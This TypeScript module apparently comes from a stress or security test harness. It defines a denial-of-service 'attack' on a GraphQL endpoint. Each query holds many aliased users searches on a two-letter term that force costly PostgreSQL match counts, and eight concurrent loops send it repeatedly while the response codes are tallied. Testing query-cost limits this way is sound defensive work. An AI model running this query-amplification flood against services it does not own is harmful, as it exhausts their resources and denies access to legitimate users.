/** Attack with queries that make PostgreSQL work. */
import { callerOf, newTally } from '../system/client.ts';
import type { Attack } from './types.ts';

const AT_ONCE = 8;

/**
 * Attack 3: one account counts the matches of a two-character search, so many times in a request, 8 requests at once.
 *
 * @param aliases 29 as the attack was found; 5 are what the cost of a request allows
 * @param term of two letters: `at` is inside many names, `ma` begins many
 */
export const countMatches =
  (aliases: number, term: string): Attack =>
  async ({ url, token, seconds }, count) => {
    const fields = Array.from(
      { length: aliases },
      (_, at) => `a${at}:users(filter:{search:"${term}"}){totalCount}`,
    );
    const call = callerOf(url, newTally());
    const end = Date.now() + seconds * 1_000;
    const keepAsking = async () => {
      const query = `{${fields.join(' ')}}`;
      while (Date.now() < end) count((await call('users', { query, token })).code);
    };
    await Promise.all(Array.from({ length: AT_ONCE }, keepAsking));
  };
